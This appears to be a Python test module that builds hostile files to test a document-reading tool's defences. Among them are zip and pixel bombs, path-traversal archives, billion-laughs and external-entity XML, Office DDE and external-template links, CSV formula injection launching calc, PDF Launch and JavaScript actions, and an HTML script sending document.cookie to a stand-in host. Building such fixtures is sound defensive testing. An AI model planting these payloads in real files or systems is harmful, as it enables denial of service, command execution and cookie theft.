"""Files made to harm: bombs, paths that lead away, entities, links, formulas, scripts, endless trees."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf

from tests.hostile import good
from tests.hostile.quine import quine_zip

CANARY = "金丝雀20481024"
"""stands in a file outside the bundle: a reader that follows an entity or a link brings it in"""
_FORMULAS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.cn/","a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
)


def traps(canary: str) -> Iterator[tuple[str, bytes]]:
    """Name and bytes; `canary` is the address of a file outside."""
    yield from _archives()
    yield from _pictures()
    yield from _entities(canary)
    yield from _office()
    yield from _papers()
    yield from _web(canary)


# --- archives -------------------------------------------------------------------------------------


def _archives() -> Iterator[tuple[str, bytes]]:
    for number, name in enumerate(
        (
            "../外.txt",
            "a/../../外.txt",
            "/tmp/外.txt",
            "C:/外.txt",
            "C:\\外.txt",
            "\\\\host\\share\\外.txt",
            "..\\..\\外.txt",
        )
    ):
        yield f"路径{number}.zip", good.zip_of({name: b"outside", "好.txt": b"inside"})
    for kind, mode in (
        ("链接", stat.S_IFLNK),
        ("块设备", stat.S_IFBLK),
        ("字符设备", stat.S_IFCHR),
        ("管道", stat.S_IFIFO),
    ):
        yield f"{kind}.zip", _zip_with_mode(mode)
    names = (
        "con.txt",
        "a" * 400 + ".txt",
        "换\n行.txt",
        "\u202etxt.exe",
        "😀.txt",
        "<script>alert(1)</script>.txt",
        "a\0b.txt",
    )
    yield "怪名.zip", good.zip_of({name: "字".encode() for name in names})
    yield "重名.zip", _twice_one_name()
    yield "重叠.zip", _overlapping()
    yield "谎报大小.zip", _lying(100, 8 << 20)
    yield "谎报巨大.zip", _lying(1 << 34, 1 << 20)
    yield "扁平炸弹.zip", good.zip_of({"零.bin": bytes(101 << 20)})
    yield "四二炸弹.zip", _nested_bomb()
    deep = b"deepest"
    for level in range(30):
        deep = good.zip_of({f"{level}.zip" if level else "底.txt": deep})
    yield "无底.zip", deep
    yield "自含.zip", quine_zip()
    yield "许多.zip", good.zip_of({f"{number}.txt": b"" for number in range(21_000)})
    yield "空.zip", good.zip_of({})
    yield "错尾.zip", good.zip_of({"a.txt": b"abc"})[:-10] + b"\xff" * 10


def _zip_with_mode(mode: int) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        entry = zipfile.ZipInfo("指向外面.txt")
        entry.create_system, entry.external_attr = 3, (mode | 0o777) << 16
        archive.writestr(entry, "/etc/passwd")
    return target.getvalue()


def _twice_one_name() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for text in ("一", "二"):
            archive.writestr(zipfile.ZipInfo("同名.txt"), text)
    return target.getvalue()


def _overlapping(entries: int = 400) -> bytes:
    """All entries of the directory share one body of 4 MB."""
    packed = zlib.compress(bytes(4 << 20), 9)[2:-4]
    check = zlib.crc32(bytes(4 << 20))
    shape = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0, check, len(packed), 4 << 20)
    body = b"PK\x03\x04" + shape + struct.pack("<HH", 5, 0) + b"0.bin" + packed
    directory = b"".join(
        b"PK\x01\x02"
        + struct.pack("<H", 20)
        + shape
        + struct.pack("<HHHHHII", 7, 0, 0, 0, 0, 0, 0)
        + f"{number:03d}.bin".encode()
        for number in range(entries)
    )
    return (
        body + directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, entries, entries, len(directory), len(body), 0)
    )


def _lying(told: int, size: int) -> bytes:
    """An entry that unpacks to another size than it tells."""
    data = bytearray(good.zip_of({"零.bin": bytes(size)}))
    real, false = struct.pack("<I", size), struct.pack("<I", told & 0xFFFFFFFF)
    return bytes(data.replace(real, false))


def _nested_bomb() -> bytes:
    layer = good.zip_of({"零.bin": bytes(8 << 20)})
    for _ in range(3):
        layer = good.zip_of({f"{number:02d}.zip": layer for number in range(8)})
    return layer


# --- pictures -------------------------------------------------------------------------------------


def _pictures() -> Iterator[tuple[str, bytes]]:
    yield "像素炸弹.png", _png(60_000, 60_000)
    yield "更大.png", _png(0x7FFFFFFF, 0x7FFFFFFF)
    yield "像素炸弹.bmp", _patched(good.picture("BMP"), 18, struct.pack("<ii", 60_000, 60_000))
    yield "负数.bmp", _patched(good.picture("BMP"), 18, struct.pack("<ii", -5, -(1 << 31)))
    yield "像素炸弹.gif", _patched(good.picture("GIF"), 6, struct.pack("<HH", 65_535, 65_535))
    jpeg = good.picture("JPEG")
    at = jpeg.index(b"\xff\xc0") + 5
    yield "像素炸弹.jpg", _patched(jpeg, at, struct.pack(">HH", 65_500, 65_500))
    yield "像素炸弹.tif", _tiff(60_000, 60_000)
    yield "自指.tif", _tiff_that_goes_on_for_ever()
    yield "注释炸弹.png", _png(90, 70, b"zTXt", b"a\0\0" + zlib.compress(bytes(70 << 20)))


def _png(width: int, height: int, kind: bytes = b"", more: bytes = b"") -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    rows = zlib.compress(bytes(min(height, 200) * (min(width, 60_000) + 1)))
    return (
        b"\x89PNG\r\n\x1a\n" + head + (chunk(kind, more) if kind else b"") + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def _patched(data: bytes, at: int, new: bytes) -> bytes:
    return data[:at] + new + data[at + len(new) :]


def _tiff(width: int, height: int, following: int = 0) -> bytes:
    tags = ((256, width), (257, height), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, height), (279, 64))
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return (
        b"II*\0"
        + struct.pack("<I", 8)
        + struct.pack("<H", len(tags))
        + entries
        + struct.pack("<I", following)
        + bytes(64)
    )


def _tiff_that_goes_on_for_ever() -> bytes:
    return _tiff(8, 8, following=8)


# --- entities -------------------------------------------------------------------------------------

_LAUGHS = (
    "<!DOCTYPE a [<!ENTITY l0 'ha'>"
    + "".join(f"<!ENTITY l{level} '{f'&l{level - 1};' * 10}'>" for level in range(1, 12))
    + "]>"
)
_QUADRATIC = f"<!DOCTYPE a [<!ENTITY big '{'a' * 50_000}'>]>"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _entities(canary: str) -> Iterator[tuple[str, bytes]]:
    outside = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{canary}">]>'
    inner = '<!ENTITY % p SYSTEM "http://example.cn/b.dtd">%p;<!ENTITY x "y">'
    remote = f'<!DOCTYPE a SYSTEM "http://example.cn/a.dtd" [{inner}]>'
    for name, doctype, entity in (
        ("亿笑", _LAUGHS, "&l11;"),
        ("平方", _QUADRATIC, "&big;" * 2000),
        ("外部实体", outside, "&x;"),
        ("远程实体", remote, "&x;"),
    ):
        xml = f"<?xml version='1.0'?>{doctype}"
        body = f"{xml}<w:document {_W}><w:body><w:p><w:r><w:t>{entity}</w:t></w:r></w:p></w:body></w:document>"
        yield f"{name}.docx", good.with_parts(good.word(), {"word/document.xml": body.encode()})
        strings = f'{xml}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{entity}</t></si></sst>'
        yield f"{name}.xlsx", good.with_parts(good.sheet(), {"xl/sharedStrings.xml": strings.encode()})
        rows = f"<table:table-row><table:table-cell><text:p>{entity}</text:p></table:table-cell></table:table-row>"
        yield f"{name}.ods", good.open_document(rows, doctype)
        yield f"{name}.html", f"{xml}<html><body><p>{entity}</p></body></html>".encode()
        yield f"{name}.xml", f"{xml}<a>{entity}</a>".encode()


# --- office papers --------------------------------------------------------------------------------

_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _office() -> Iterator[tuple[str, bytes]]:
    word, sheet = good.word(), good.sheet()
    settings = f'<w:settings {_W} xmlns:r="{_RELATION}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    yield (
        "外部模板.docx",
        good.with_parts(
            word,
            {
                "word/settings.xml": settings.encode(),
                "word/_rels/settings.xml.rels": _relations(("attachedTemplate", "http://example.cn/evil.dotm")),
            },
        ),
    )
    rels = good.part(word, "word/_rels/document.xml.rels")
    for kind in ("image", "aFChunk", "oleObject", "hyperlink", "frame", "subDocument"):
        target = "file://///example.cn/share/a.png" if kind == "image" else "http://example.cn/a"
        link = f'<Relationship Id="rIdX" Type="{_RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
        link += "</Relationships>"
        yield (
            f"外部{kind}.docx",
            good.with_parts(word, {"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", link.encode())}),
        )
    order = r'<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>'
    field = f"<w:document {_W}><w:body><w:p><w:r>{order}</w:r></w:p></w:body></w:document>"
    yield "域.docx", good.with_parts(word, {"word/document.xml": field.encode()})
    tables = "<w:tbl><w:tr><w:tc>" * 3000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3000
    deep = f"<w:document {_W}><w:body>{tables}</w:body></w:document>"
    yield "深表.docx", good.with_parts(word, {"word/document.xml": deep.encode()})
    yield "大部件.docx", good.with_parts(word, {"word/document.xml": bytes(257 << 20)})
    yield (
        "宏.docm",
        good.with_parts(word, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Auto_Open" * 50}),
    )
    yield "公式.xlsx", good.sheet(*((formula, formula, formula) for formula in _FORMULAS))
    yield (
        "公式.csv",
        "\n".join(
            ["姓名,学号,单位", *(f'"{formula.replace(chr(34), chr(34) * 2)}",1,2' for formula in _FORMULAS)]
        ).encode(),
    )
    yield (
        "外部链接.xlsx",
        good.with_parts(
            sheet,
            {
                "xl/externalLinks/externalLink1.xml": _dde(),
                "xl/externalLinks/_rels/externalLink1.xml.rels": _relations(
                    ("externalLinkPath", "http://example.cn/a.xlsx")
                ),
            },
        ),
    )
    rows = ("A1", "1", "a"), ("XFD1048576", "1048576", "b")
    cells = "".join(f'<row r="{row}"><c r="{at}" t="str"><v>{text}</v></c></row>' for at, row, text in rows)
    far = f'<worksheet xmlns="{_SHEET}"><sheetData>{cells}</sheetData></worksheet>'
    yield "遥远.xlsx", good.with_parts(sheet, {"xl/worksheets/sheet1.xml": far.encode()})
    cell = '<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>a</text:p>'
    wide = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-cell></table:table-row>'
    yield "重复.ods", good.open_document(wide)
    merged = sheet and good.part(sheet, "xl/worksheets/sheet1.xml").replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )
    yield "大合并.xlsx", good.with_parts(sheet, {"xl/worksheets/sheet1.xml": merged})


def _relations(*links: tuple[str, str]) -> bytes:
    inner = "".join(
        f'<Relationship Id="rId{at}" Type="{_RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
        for at, (kind, target) in enumerate(links, 1)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'.encode()


def _dde() -> bytes:
    return (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
        b"</externalLink>"
    )


# --- PDF ------------------------------------------------------------------------------------------


def _papers() -> Iterator[tuple[str, bytes]]:
    for name, action in (
        ("启动", "<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
        ("脚本", "<</S/JavaScript/JS(app.launchURL\\('http://example.cn'\\);while\\(true\\){})>>"),
        ("网址", "<</S/URI/URI(http://example.cn/)>>"),
        ("提交", "<</S/SubmitForm/F(http://example.cn/)>>"),
    ):
        yield f"{name}.pdf", _acting(action)
    yield "自环.pdf", _raw("<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")
    yield (
        "多页.pdf",
        _raw("<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
    )
    yield "互环.pdf", _raw("<</Type/Pages/Kids[3 0 R]/Count 5>>", "<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 5>>")
    yield "巨页.pdf", _raw("<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e9 1e9]>>")
    yield "负页.pdf", _raw("<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[9 9 -9 -9]>>")
    yield (
        "深数组.pdf",
        _raw(
            "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/A " + "[" * 50_000 + "]" * 50_000 + ">>"
        ),
    )
    yield "千页.pdf", _many_pages(700)
    bomb = zlib.compress(b"0 0 m 9 9 l S\n" * (2 << 20), 9)
    yield "流炸弹.pdf", _drawing(bomb)
    yield "自画.pdf", _drawing_itself()
    yield "附件.pdf", _attaching()
    yield "谎长.pdf", good.pdf().replace(b"/Length", b"/Lengt0")


def _acting(action: str) -> bytes:
    paper = pikepdf.open(io.BytesIO(good.pdf()))
    paper.Root.OpenAction = pikepdf.Object.parse(action.encode())
    paper.pages[0].AA = pikepdf.Object.parse(f"<</O {action}>>".encode())
    target = io.BytesIO()
    paper.save(target, static_id=True)
    return target.getvalue()


def _raw(*objects: str) -> bytes:
    """A PDF whose second object and those after are these."""
    body = b"%PDF-1.7\n"
    places = []
    for number, text in enumerate(("<</Type/Catalog/Pages 2 0 R>>", *objects), 1):
        places.append(len(body))
        body += f"{number} 0 obj\n{text}\nendobj\n".encode()
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    size = len(places) + 1
    tail = f"trailer\n<</Size {size}/Root 1 0 R>>\nstartxref\n{len(body)}\n%%EOF"
    return body + f"xref\n0 {size}\n0000000000 65535 f \n{table}{tail}".encode()


def _many_pages(many: int) -> bytes:
    paper = pikepdf.new()
    for _ in range(many):
        paper.add_blank_page(page_size=(20, 20))
    target = io.BytesIO()
    paper.save(target, static_id=True)
    return target.getvalue()


def _drawing(packed: bytes) -> bytes:
    paper = pikepdf.open(io.BytesIO(good.pdf()))
    stream = paper.make_stream(b"")
    stream.write(packed, filter=pikepdf.Name.FlateDecode)
    paper.pages[0].Contents = stream
    target = io.BytesIO()
    paper.save(target, static_id=True)
    return target.getvalue()


def _drawing_itself() -> bytes:
    paper = pikepdf.open(io.BytesIO(good.pdf()))
    form = paper.make_stream(b"/X Do /X Do", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9])
    form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))
    paper.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))
    paper.pages[0].Contents = paper.make_stream(b"/X Do")
    target = io.BytesIO()
    paper.save(target, static_id=True)
    return target.getvalue()


def _attaching() -> bytes:
    paper = pikepdf.open(io.BytesIO(good.pdf()))
    paper.attachments["../../外.exe"] = b"MZ" + bytes(100)
    target = io.BytesIO()
    paper.save(target, static_id=True)
    return target.getvalue()


# --- web pages and texts --------------------------------------------------------------------------


def _web(canary: str) -> Iterator[tuple[str, bytes]]:
    script = "<script>fetch('http://example.cn/'+document.cookie)</script>"
    yield (
        "脚本.html",
        good.html(f"<tr><td>{script}<td><img src=x onerror=alert(1)>", f"<base href='http://example.cn/'>{script}"),
    )
    yield "框架.html", good.html(f"<tr><td><iframe src='{canary}'></iframe><object data='{canary}'></object><td>b")
    yield (
        "样式.html",
        good.html("<tr><td>a<td>b", f"<style>@import url('{canary}')</style><link rel=stylesheet href='{canary}'>"),
    )
    yield "深.html", ("<div>" * 3_000).encode()
    yield "宽.html", good.html("<tr>" + "<td colspan=9999 rowspan=9999>a" * 300)
    yield "脚本.txt", f'{script}\n"><svg onload=alert(1)>\n2024年招聘会 javascript:alert(1)'.encode()
    yield "长行.txt", b"a" * (20 << 20)
    yield "引号.csv", b'"' + b"a,b\n" * 400_000
    yield "宽表.csv", b"," * 2_000_000 + b"\n"
    yield "零.txt", bytes(1 << 20)
    yield "假像.jpg", b"\xff\xd8\xff" + b"<script>alert(1)</script>" * 10
